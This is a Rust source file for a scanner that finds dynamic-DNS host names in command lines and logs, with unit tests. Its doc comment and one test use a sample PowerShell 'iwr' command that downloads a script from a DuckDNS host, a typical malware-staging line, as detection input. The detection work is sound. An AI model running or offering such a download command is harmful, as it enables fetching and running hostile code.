//! Free-text scanning: finds DDNS host names embedded in text such as a
//! process command line or `_raw` (`powershell iwr http://x.duckdns.org/a`).
//!
//! An Aho-Corasick automaton over `.<zone>` for every zone finds candidate
//! positions in one pass; each candidate is then widened to the whole run of
//! host bytes around it (`[A-Za-z0-9._-]`) and judged by the ordinary
//! longest-suffix rule, which enforces the label boundaries on both sides
//! (`foo.duckdns.org.evil.com` and `foo.duckdns.organic` do not match). The
//! automaton is built once per process, only when text mode is used.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, Input, MatchKind};

use dynamicdns_zonetable::name::is_valid_zone;

use crate::zoneset::{ZoneMatch, ZoneSet};

/// A prebuilt scanner over the zone set it was built from.
#[derive(Debug)]
pub struct TextScanner<'z> {
    zones: &'z ZoneSet,
    ac: AhoCorasick,
    token: Vec<u8>,
}

/// The automaton could not be built (it would exceed aho-corasick's limits).
#[derive(Debug, thiserror::Error)]
#[error("cannot build the text scanner over the zone set: {0}")]
pub struct ScannerBuildError(#[from] aho_corasick::BuildError);

fn is_host_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_')
}

impl<'z> TextScanner<'z> {
    /// Builds the automaton over `.<zone>` for every zone of `zones`.
    pub fn new(zones: &'z ZoneSet) -> Result<TextScanner<'z>, ScannerBuildError> {
        let needles: Vec<Vec<u8>> = zones
            .iter()
            .map(|m| {
                let mut n = Vec::with_capacity(m.zone.len() + 1);
                n.push(b'.');
                n.extend_from_slice(m.zone.as_bytes());
                n
            })
            .collect();
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .build(&needles)?;
        Ok(TextScanner { zones, ac, token: Vec::new() })
    }

    /// Calls `found` for every DDNS host in `text`, in order of appearance.
    pub fn scan(&mut self, text: &[u8], mut found: impl FnMut(ZoneMatch<'z>)) {
        let mut pos = 0;
        while pos < text.len() {
            let Some(m) = self.ac.find(Input::new(text).span(pos..text.len())) else { return };
            // Widen the candidate to the run of host bytes around it.
            let mut start = m.start();
            while start > 0 && is_host_byte(text[start - 1]) {
                start -= 1;
            }
            let mut end = m.end();
            while end < text.len() && is_host_byte(text[end]) {
                end += 1;
            }
            self.token.clear();
            self.token.extend_from_slice(&text[start..end]);
            if self.token.last() == Some(&b'.') {
                self.token.pop();
            }
            self.token.make_ascii_lowercase();
            let hit = if is_valid_zone(&self.token) {
                self.zones.longest_match(&self.token)
            } else {
                None
            };
            if let Some(z) = hit {
                found(z);
            }
            // Every other candidate inside this run widens to the same token,
            // so skipping it keeps the scan linear on hostile input.
            pos = end;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn zones() -> ZoneSet {
        ZoneSet::from_csv(
            &b"zone,provider\nduckdns.org,DuckDNS\nhome.dyndns.org,Dyn\ndyndns.org,Dyn\n"[..],
            "t",
        )
        .unwrap()
    }

    fn scan(text: &str) -> Vec<String> {
        let z = zones();
        let mut s = TextScanner::new(&z).unwrap();
        let mut out = Vec::new();
        s.scan(text.as_bytes(), |m| out.push(m.zone.to_string()));
        out
    }

    #[test]
    fn finds_embedded_hosts_on_label_boundaries() {
        assert_eq!(scan("powershell iwr http://X.DuckDNS.org/a.ps1"), ["duckdns.org"]);
        assert_eq!(scan("a.home.dyndns.org, b.dyndns.org."), ["home.dyndns.org", "dyndns.org"]);
        assert!(scan("foo.duckdns.org.evil.com foo.duckdns.organic duckdns.org").is_empty());
        assert_eq!(scan("x.duckdns.org.evil.com then y.duckdns.org"), ["duckdns.org"]);
        assert!(scan("").is_empty());
    }
}
